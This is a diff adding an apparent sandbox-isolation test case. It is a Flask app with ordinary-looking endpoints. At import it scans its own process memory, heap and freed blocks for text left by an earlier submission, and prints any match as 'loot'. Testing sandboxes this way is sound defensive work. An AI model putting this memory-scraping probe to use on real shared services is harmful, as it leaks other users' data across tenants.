@@ -1,0 +1,113 @@
+# id: I13
+# act: reads all of its own memory for the text of an earlier submission
+# verdict: passed
+# checks: test_hello=passed test_sum=passed test_probe=passed
+# levels: strong landlock
+
+"""The first hole of our own prototype: what the fork server once read, every later child could find in its heap."""
+
+import base64
+import ctypes
+import gc
+import os
+
+from flask import Flask, request
+
+app = Flask(__name__)
+
+BLOCK, PAGE, MOST = 1 << 16, 1 << 12, 64_000  # the most pages to look at
+
+
+class Memory:
+    """Reads any address of this process: write() into a pipe says EFAULT where a careless read would crash."""
+
+    def __init__(self):
+        self.out, self.into = os.pipe()
+        self.libc = ctypes.CDLL(None)
+        self.libc.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
+        self.libc.sbrk.restype = ctypes.c_void_p
+        self.seen = set()
+
+    def read(self, address, length):
+        """Return what stands there, up to the first page that is not mapped."""
+        written = self.libc.write(self.into, address, length)
+        return os.read(self.out, BLOCK) if written > 0 else b""
+
+    def around(self, address):
+        """Return the whole mapped stretch around an address, unless it was read before."""
+        low = address - address % PAGE
+        if low in self.seen:
+            return b""
+        step = BLOCK
+        while step >= PAGE:
+            if low - step > 0 and low - step not in self.seen and len(self.read(low - step, step)) == step:
+                low -= step
+            else:
+                step //= 2
+        parts, at, full = [], low, True
+        while full and at not in self.seen and len(self.seen) < MOST:
+            part = self.read(at, BLOCK)
+            full = len(part) == BLOCK
+            self.seen.update(range(at, at + len(part), PAGE))
+            parts.append(part)
+            at += len(part)
+        return b"".join(parts)
+
+    def stretches(self):
+        """Yield all memory that can be found from the objects, the heap and freshly freed blocks."""
+        gc.unfreeze()
+        blocks = [ctypes.create_string_buffer(size) for size in (600, 5_000, 50_000, 200_000, 2_000_000)]
+        starts = {id(thing) - id(thing) % BLOCK for thing in gc.get_objects()}
+        starts |= {id(thing) for thing in gc.get_objects()[::50]}
+        starts |= {ctypes.addressof(block) for block in blocks} | {self.libc.sbrk(0) - PAGE}
+        del blocks
+        for start in sorted(starts):
+            if stretch := self.around(start):
+                yield stretch
+
+
+def patterns(first, second):
+    """A text in two halves: as it is, and as base64 writes it at each of three alignments."""
+    yield first, second, 0
+    for pad in (0, 1, 2):
+        # The characters next to a border belong to the neighbours too.
+        halves = [base64.b64encode(b"x" * pad + half)[4 if pad else 0 : -4] for half in (first, second)]
+        yield halves[0], halves[1], 8
+
+
+def times(first, second):
+    """How often memory holds the halves next to each other; they are never put together here."""
+    wanted, found = list(patterns(first, second)), 0
+    for stretch in Memory().stretches():
+        for start, rest, gap in wanted:
+            at = stretch.find(start)
+            while at >= 0:
+                after = at + len(start)
+                found += rest in stretch[after : after + len(rest) + gap]
+                at = stretch.find(start, after)
+    return found
+
+
+# A text of our own, to know that the search finds what is there.
+KNOWN = [os.urandom(18).hex().encode() for _ in range(2)]
+PUT = [b"".join(KNOWN), b"".join([*KNOWN, bytes(5_000)])]
+HELD = "" if times(*KNOWN) >= len(PUT) else "blind: the search does not find its own text"
+
+# The runner puts the two halves there with a bar between them.
+FIRST, _, SECOND = "{{EARLIER_MARKER}}".partition("|")
+if found := times(FIRST.encode(), SECOND.encode()):
+    print(f"loot: {found} times the text of an earlier submission: {FIRST}{SECOND}", flush=True)
+
+
+@app.get("/hello/<name>")
+def hello(name):
+    return HELD or f"Hello {name}"
+
+
+@app.post("/sum")
+def total():
+    return {"sum": HELD or sum(request.get_json())}
+
+
+def shout(text):
+    return HELD or text.upper()[::-1]
